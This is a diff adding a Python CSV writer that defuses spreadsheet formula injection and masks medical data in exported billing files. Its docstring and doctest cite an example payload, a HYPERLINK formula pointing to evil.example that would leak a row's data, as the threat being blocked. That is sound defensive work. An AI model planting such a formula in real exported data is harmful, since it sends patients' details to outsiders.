@@ -1,0 +1,165 @@
+"""Every CSV the product writes, made by one writer: cells inert in a spreadsheet, medical data refused.
+
+Spreadsheets run a cell as a formula when it starts with ``=``, ``+``, ``-`` or ``@`` (also after
+spaces, a tab or a carriage return): ``=HYPERLINK("http://evil.example?"&A1)`` in a patient's name
+would send the row to a stranger the moment an accountant opens the file. Names, addresses, mutuelle
+names, payers' names, bank references, invoice numbers and file names all come from outside, so
+every *text* cell is made inert the way OWASP recommends ("CSV Injection"): prefixed with a single
+quote ``'`` when it starts with one of those characters, after any leading whitespace or invisible
+character. Spreadsheets show the quote; a program reading the file gets it back as part of the text.
+
+Only what we typed as a number is left alone: an ``int`` (a line number, a level) and an
+:class:`Amount` (cents, written with the dialect's decimal mark). A string that looks like a number
+is text: ``"-12,50"`` or a phone number ``"+33 6 12 34 56 78"`` from an input file is written
+``'-12,50`` and ``'+33 6 12 34 56 78``.
+
+Cells are quoted (RFC 4180) when they hold the separator, a double quote, a CR or a LF, whatever the
+line ending: Python's own csv writer leaves a lone CR unquoted when lines end with LF, and a
+spreadsheet then starts a new row (and a new, live cell) at that CR.
+
+Free-text columns named by the caller (a transfer's label, a payer's name) are replaced by
+:data:`MASK` on the rows where the privacy scanner finds something medical; the whole document is
+then scanned again and refused (``PrivacyLeak``) if anything is still found.
+"""
+
+from __future__ import annotations
+
+import bisect
+import datetime as dt
+import math
+import re
+from dataclasses import dataclass
+from numbers import Integral
+from typing import Iterable, Sequence
+
+MASK = "[masqué]"
+
+# OWASP's trigger characters, and their full-width forms (some spreadsheets fold those to ASCII).
+_TRIGGERS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
+# Leading characters a spreadsheet may skip before it looks for a formula: whitespace (what
+# str.isspace() calls so, tab and CR included), other control characters, zero-width and bidi marks.
+_SKIPPED = "\\s\\x00-\\x1f\\x7f-\\x9f\\u200b-\\u200f\\u202a-\\u202e\\u2060-\\u2064\\ufeff"
+_DANGEROUS = re.compile(f"[\\t\\r]|[{_SKIPPED}]*[{_TRIGGERS}]")
+
+
+@dataclass(frozen=True, slots=True)
+class Amount:
+    """An amount of money we computed, in cents: written as a number (1234.56, or 1234,56 in excel-fr)."""
+
+    cents: int
+
+
+@dataclass(frozen=True)
+class Dialect:
+    """How a CSV file is spelled: separator, decimal mark, encoding (utf-8-sig writes the BOM), line end."""
+
+    name: str
+    delimiter: str
+    decimal: str
+    encoding: str
+    line_end: str
+
+
+PLAIN = Dialect("csv", ",", ".", "utf-8", "\n")
+EXCEL_FR = Dialect("excel-fr", ";", ",", "utf-8-sig", "\r\n")
+DIALECTS = {d.name: d for d in (PLAIN, EXCEL_FR)}
+
+
+def inert(text: str) -> str:
+    """The text as a cell a spreadsheet will never run: prefixed with ' when it could start a formula.
+
+    >>> inert('=HYPERLINK("http://evil.example")')
+    '\\'=HYPERLINK("http://evil.example")'
+    >>> inert(" +33 6 12 34 56 78"), inert("Dupont"), inert("-12,50")
+    ("' +33 6 12 34 56 78", 'Dupont', "'-12,50")
+    """
+    return "'" + text if _DANGEROUS.match(text) else text
+
+
+def amount_text(cents: int, decimal: str = ".") -> str:
+    """Cents as a plain number: -1234.56 (no grouping, two decimals)."""
+    sign = "-" if cents < 0 else ""
+    units, frac = divmod(abs(int(cents)), 100)
+    return f"{sign}{units}{decimal}{frac:02d}"
+
+
+def cell_text(value, dialect: Dialect = PLAIN) -> str:
+    """One cell as written: numbers we typed as such unchanged, every other value as inert text."""
+    if isinstance(value, str):
+        return inert(value)
+    if isinstance(value, Amount):
+        return amount_text(value.cents, dialect.decimal)
+    if isinstance(value, Integral) and not isinstance(value, bool):
+        return str(int(value))
+    if value is None or (isinstance(value, float) and math.isnan(value)) or _is_missing(value):
+        return ""
+    if isinstance(value, (dt.date, dt.datetime)):
+        return value.isoformat()
+    raise TypeError(f"a CSV cell is text, an int, an Amount, a date or missing, not {type(value).__name__}")
+
+
+def _is_missing(value) -> bool:
+    try:
+        import pandas as pd
+    except ImportError:  # pragma: no cover - pandas is a dependency
+        return False
+    return value is pd.NA or value is pd.NaT
+
+
+class _Lines:
+    """Rows spelled as CSV lines of one dialect (quoting as RFC 4180 asks, for CR and LF too)."""
+
+    def __init__(self, dialect: Dialect) -> None:
+        self.dialect = dialect
+        self._special = re.compile(f'[{re.escape(dialect.delimiter)}"\\r\\n]')
+
+    def field(self, text: str) -> str:
+        return '"' + text.replace('"', '""') + '"' if self._special.search(text) else text
+
+    def line(self, row: Sequence) -> str:
+        cells = [self.field(cell_text(value, self.dialect)) for value in row]
+        if cells == [""]:
+            cells = ['""']  # a lone empty cell would read as a blank line
+        return self.dialect.delimiter.join(cells) + self.dialect.line_end
+
+
+def csv_text(header: Sequence[str], rows: Iterable[Sequence], dialect: Dialect = PLAIN) -> str:
+    """The CSV as text (no BOM, no scan): for tests and callers that add their own checks."""
+    lines = _Lines(dialect)
+    return lines.line(header) + "".join(lines.line(row) for row in rows)
+
+
+def csv_document(name: str, header: Sequence[str], rows: Iterable[Sequence], *, dialect: Dialect = PLAIN,
+                 free_text: Sequence[str] = ()) -> bytes:
+    """The CSV file's bytes, ready to write; PrivacyLeak (naming `name`) if medical data is left in it.
+
+    Cells in the `free_text` columns are masked on the rows where the scanner finds medical data.
+    """
+    from recouvrement.core.privacy import scan_text
+    from recouvrement.scanner import ensure_clean
+
+    rows = [list(row) for row in rows]
+    lines = _Lines(dialect)
+    head = lines.line(header)
+    body = [lines.line(row) for row in rows]
+    columns = [list(header).index(c) for c in free_text]
+    if columns:
+        flagged = _rows_of_lines(head, body, {finding.line for finding in scan_text(head + "".join(body))})
+        for index in flagged:
+            for column in columns:
+                rows[index][column] = MASK
+            body[index] = lines.line(rows[index])
+    document = head + "".join(body)
+    ensure_clean(document, name)
+    return document.encode(dialect.encoding)
+
+
+def _rows_of_lines(head: str, body: list[str], numbers: set[int]) -> set[int]:
+    """Which rows (0-based) hold the given text lines (1-based): a quoted cell may span several lines."""
+    if not numbers:
+        return set()
+    starts, line = [], head.count("\n") + 1
+    for text in body:
+        starts.append(line)
+        line += text.count("\n")
+    return {bisect.bisect_right(starts, number) - 1 for number in numbers if number >= starts[0]} if starts else set()
